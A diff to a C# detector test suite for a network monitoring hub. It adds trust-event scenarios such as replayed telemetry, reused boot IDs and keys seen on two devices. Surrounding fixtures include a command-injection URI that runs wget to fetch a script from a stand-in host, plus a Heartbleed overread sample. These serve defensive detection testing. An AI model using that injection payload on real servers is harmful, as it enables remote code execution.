@@ -2,6 +2,7 @@ using Wardkeeper.Hub.Detection;
 using Wardkeeper.Hub.Findings;
 using Wardkeeper.Hub.Intelligence;
 using Wardkeeper.Hub.Register;
+using Wardkeeper.Hub.Trust;
 using Wardkeeper.Sensor.Observations;
 
 namespace Wardkeeper.Hub.Tests.Detection;
@@ -122,6 +123,14 @@ public class DetectorTests
         ["heartbleed"] = () => new Scene().Tls("10.0.1.5", "10.0.9.9", """{"version":"TLSv12","heartbeat_overread":16381}"""),
         ["web-attack"] = () => new Scene().Says("http", "10.0.1.5", "10.0.9.9", 80, """{"method":"GET","uri":"/cgi?x=;wget http://203.0.113.9/a.sh","status_code":404}"""),
         ["upload-to-unnamed-host"] = () => new Scene().Says("http", "10.0.1.5", "203.0.113.9", 7080, """{"method":"POST","host":"203.0.113.9:7080","uri":"/x","user_agent":"Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; Trident/7.0)","status_code":200}"""),
+        ["identity-at-two-places"] = () => IdentityTests.InTurn("10.0.1.5", "10.0.1.6", "10.0.1.5"),
+        ["key-of-two-devices"] = () => new Scene().Notices(TrustEventKind.Presented, "10.0.1.5").Notices(TrustEventKind.Presented, "10.0.1.6", 18, "02"),
+        ["certificate-at-other-device"] = () => new Scene().Knows(IdentityTests.Device(18, "10.0.1.5")).Notices(TrustEventKind.Presented, "10.0.1.5"),
+        ["telemetry-replayed"] = () => new Scene().Notices(TrustEventKind.Replayed, "10.0.1.5"),
+        ["telemetry-counter-back"] = () => new Scene().Notices(TrustEventKind.CounterBack, "10.0.1.5"),
+        ["boot-id-reused"] = () => new Scene().Notices(TrustEventKind.BootReused, "10.0.1.5"),
+        ["boot-state-changed"] = () => new Scene().Notices(TrustEventKind.QuoteChanged, "10.0.1.5"),
+        ["chip-replaced"] = () => new Scene().Notices(TrustEventKind.ClockBack, "10.0.1.5"),
         ["sensor-drops-packets"] = () => new Scene().Counts(("packets", 1000), ("kernel-drops", 10)),
         ["one-sided-traffic"] = () => Many(60, scene => scene.Flow("10.0.1.5", "10.0.9.9", 8080, state: "OTH", history: "DA", answered: 0)).Counts(("packets", 1000)),
         ["capture-gaps"] = () => new Scene().Flow("10.0.1.5", "10.0.9.9", 8080, answered: 2_000_000, missed: 100_000).Counts(("packets", 1000)),
